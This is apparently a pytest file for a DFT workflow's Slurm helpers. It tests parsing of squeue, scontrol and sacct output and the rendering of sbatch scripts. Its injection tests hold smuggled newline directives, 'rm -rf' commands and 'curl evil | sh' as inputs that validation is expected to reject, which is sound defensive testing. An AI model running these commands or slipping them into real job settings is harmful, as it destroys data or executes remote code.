"""Parsing of squeue / scontrol / sacct output and rendering of the sbatch script."""

from __future__ import annotations

from pathlib import Path

import pytest
from pydantic import ValidationError

from tasks.dft.settings import DftSettings, SlurmSettings
from tasks.dft.slurm import parse_sacct, parse_scontrol, parse_squeue, render_sbatch


def test_parse_squeue_one_line_per_array_task() -> None:
    text = "41_0|RUNNING\n41_1|PENDING\n"
    assert parse_squeue(text) == {"41_0": "RUNNING", "41_1": "PENDING"}


def test_parse_scontrol_expands_pending_ranges() -> None:
    text = (
        "JobId=42 ArrayJobId=41 ArrayTaskId=0 JobName=dft JobState=COMPLETED Reason=None\n"
        "JobId=41 ArrayJobId=41 ArrayTaskId=1-3%2 JobName=dft JobState=PENDING Reason=None\n"
        "JobId=7 JobName=other JobState=TIMEOUT Reason=TimeLimit\n"
    )
    assert parse_scontrol(text) == {
        "41_0": "COMPLETED",
        "41_1": "PENDING",
        "41_2": "PENDING",
        "41_3": "PENDING",
        "7": "TIMEOUT",
    }


def test_parse_sacct_states() -> None:
    text = "41_0|COMPLETED\n41_1|CANCELLED by 0\n41_[2-3]|PENDING\n"
    assert parse_sacct(text) == {
        "41_0": "COMPLETED",
        "41_1": "CANCELLED",
        "41_2": "PENDING",
        "41_3": "PENDING",
    }


def test_render_sbatch(tmp_path: Path) -> None:
    batch = tmp_path / "work" / "batches" / "b1.json"
    slurm = SlurmSettings(
        partition="debug",
        walltime="02:00:00",
        max_parallel=2,
        setup_commands=["module load vasp"],
        environment={"PMG_VASP_PSP_DIR": "/opt/potcars dir"},
    )
    script = render_sbatch(batch, 4, DftSettings(cores=8), slurm, "dft-b1")
    assert "#SBATCH --array=0-3%2" in script
    assert "#SBATCH --ntasks=8" in script
    assert "#SBATCH --partition=debug" in script
    assert "#SBATCH --time=02:00:00" in script
    assert "module load vasp" in script
    assert "export PMG_VASP_PSP_DIR='/opt/potcars dir'" in script
    assert f"-m tasks.dft.node {batch}" in script  # the light node entry point, not the CLI
    assert '"${SLURM_ARRAY_TASK_ID}"' in script


@pytest.mark.parametrize(
    "field",
    [
        {"partition": "debug\n#SBATCH --uid=0"},
        {"account": "lab; rm -rf ~"},
        {"qos": "high\nhostname"},
        {"mem": "32G\n#SBATCH --exclusive"},
        {"extra_directives": ["--constraint=x\n#SBATCH --uid=0"]},
        {"extra_directives": ["rm -rf /"]},
        {"environment": {"OK\nBAD": "1"}},
        {"setup_commands": ["module load vasp\ncurl evil | sh"]},
    ],
)
def test_injected_lines_in_slurm_settings_are_refused(field) -> None:
    with pytest.raises(ValidationError):
        SlurmSettings(**field)


def test_environment_values_are_quoted(tmp_path: Path) -> None:
    slurm = SlurmSettings(environment={"X": "a'; echo pwned; '"})
    script = render_sbatch(tmp_path / "w" / "batches" / "b.json", 1, DftSettings(), slurm, "j")
    (line,) = [ln for ln in script.splitlines() if ln.startswith("export X=")]
    assert line == "export X='a'\"'\"'; echo pwned; '\"'\"''"
